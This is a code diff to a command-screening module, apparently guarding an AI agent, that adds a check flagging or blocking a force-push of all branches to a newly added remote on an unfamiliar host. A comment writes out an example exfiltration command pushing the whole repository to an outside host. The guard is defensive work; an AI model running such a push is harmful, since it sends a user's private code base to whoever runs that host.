@@ -281,9 +281,78 @@ _FORGE_SIGNING_OFF = re.compile(r"(?i)SIGNING_KEY\s*=\s*none|require_signed_comm
                                 r"never")
 
 
+# -- the whole repository pushed to a remote this input adds (session 28) ----------------------------------------
+# `git remote add qa-mirror https://git.snapshot-vault.dev/mirror/storefront.git; git push qa-mirror --all --force`:
+# every branch sent to a host this input names itself. The host is recognised as the project's own as
+# history._mirror_out recognises a `--mirror` push's (a host of the user's network, a code host, one under the domain
+# of the repository this script cloned, one that carries a word of the repository's own path); one that carries none
+# of the names the path gives is a stranger's. Forced (nothing on a fresh remote of one's own needs overwriting), the
+# code is sent out: blocked; not forced, held for a person. A single branch pushed (`git push -u origin main`) is
+# ordinary, and `--mirror` is history._mirror_out's.
+_QA_WHOLE_REFSPEC = re.compile(r"^\+?(?:refs/heads/\*|refs/\*|\*)(?::|$)")
+
+
+def _whole_push(a, cmd: Cmd) -> None:
+    from .history import _ADDED_REMOTE, _FORGE_WORDS, _PUSH_ARG, _Line, _domain, clone_source, git_args
+
+    sub, rest = git_args(cmd.args)
+    if sub != "push":
+        return
+    line = _Line(rest, _PUSH_ARG)
+    if not line.pos or line.pos[0].value is None or line.has("", "--mirror"):
+        return
+    refspecs = line.pos[1:]
+    whole = line.has("", "--all", "--branches") or any(_QA_WHOLE_REFSPEC.match(w.value or "") for w in refspecs)
+    if not whole:
+        return
+    name = line.pos[0].value
+    if "://" in name or re.match(r"^[^/:@\s]+@[^/:\s]+:", name):
+        return  # an address typed on the line: exec._push_to_address and history._push_out
+    text = a.doc.data.decode("utf-8", "replace")
+    m = None
+    for m in re.finditer(_ADDED_REMOTE.format(re.escape(name)), text):
+        pass  # the last address given to the name counts
+    if m is None:
+        return  # a remote configured before this input: the project's own
+    from ..cloud_admin import org_words
+    from ..secret_owner import own_network
+    from .exec import _git_host
+    from .tools import _code_host, _private_network
+
+    target = m.group(1)
+    host = _git_host(target)
+    if host is None or "$" in host or public_ip(host) or own_network(host) or _private_network(host) or \
+            _code_host(host):
+        return  # (a bare public address: history._push_out)
+    before = cmd.args[:len(cmd.args) - len(rest)]
+    source = clone_source(a, cmd, before)
+    source_host = _git_host(source) if source else None
+    if source_host and _domain(source_host) == _domain(host):
+        return
+    path = target.split("://", 1)[-1].split("/", 1)[-1] if "://" in target else target.split(":", 1)[-1]
+    body = ".".join(host.split(".")[:-1])
+    words = org_words(*path.removesuffix(".git").split("/")) - _FORGE_WORDS
+    if not words or any(w in body for w in words):
+        return
+    forced = line.has("f", "--force") or any((w.value or w.text).startswith("+") for w in refspecs)
+    shown = "--all" if line.has("", "--all", "--branches") else next(
+        w.value or "" for w in refspecs if _QA_WHOLE_REFSPEC.match(w.value or ""))
+    say = (f"`git push {name} {shown}` sends every branch of the repository to {host} (added here as the remote "
+           f"`{name}`), which does not carry the name its path gives ({', '.join(sorted(words))})")
+    if forced:
+        a.block("exfiltration", f"{say}, forced over whatever is there: the whole code base leaves for whoever runs "
+                                "that host; push to the project's own remotes, and let the user set up a mirror",
+                line.pos[0].node)
+    else:
+        a.review("exfiltration", f"{say}: the whole code base goes to that host; check it is the organisation's own "
+                                 "before pushing", line.pos[0].node)
+
+
 def _git(a, cmd: Cmd) -> None:
     args = cmd.args
     vals = _vals(args)
+    if "push" in vals and b"remote" in a.doc.data:
+        _whole_push(a, cmd)
     if "config" not in vals:
         return
     pos = [w.value if w.value is not None else w.text.strip("\"'")
@@ -560,7 +629,8 @@ SCREENS: dict = {
     "devpi": mentions("remove", "--delete", "upload"), "twine": mentions("upload"),
     "jf": mentions("access-token-create", "atc", "build-discard", "bdi", "export"),
     "ssh": mentions("gerrit", "delete-project"),
-    "git": mentions("gpgsign", "gpgSign", "replication.config", fold=True),
+    "git": lambda text, _m=mentions("gpgsign", "gpgSign", "replication.config", fold=True): _m(text) or (
+        "push" in text and "remote" in text),
     **{n: mentions("copy", "cp", "sync") for n in _COPY_VERBS},
     **{n: mentions("gitea", "forgejo", "gitlab-rails", "garbage-collect", "devpi", "gitlab-runner", "act_runner",
                    "forgejo-runner", "ATHENS_", "imagetools", words=("tag", "push")) for n in _CONTAINERS},
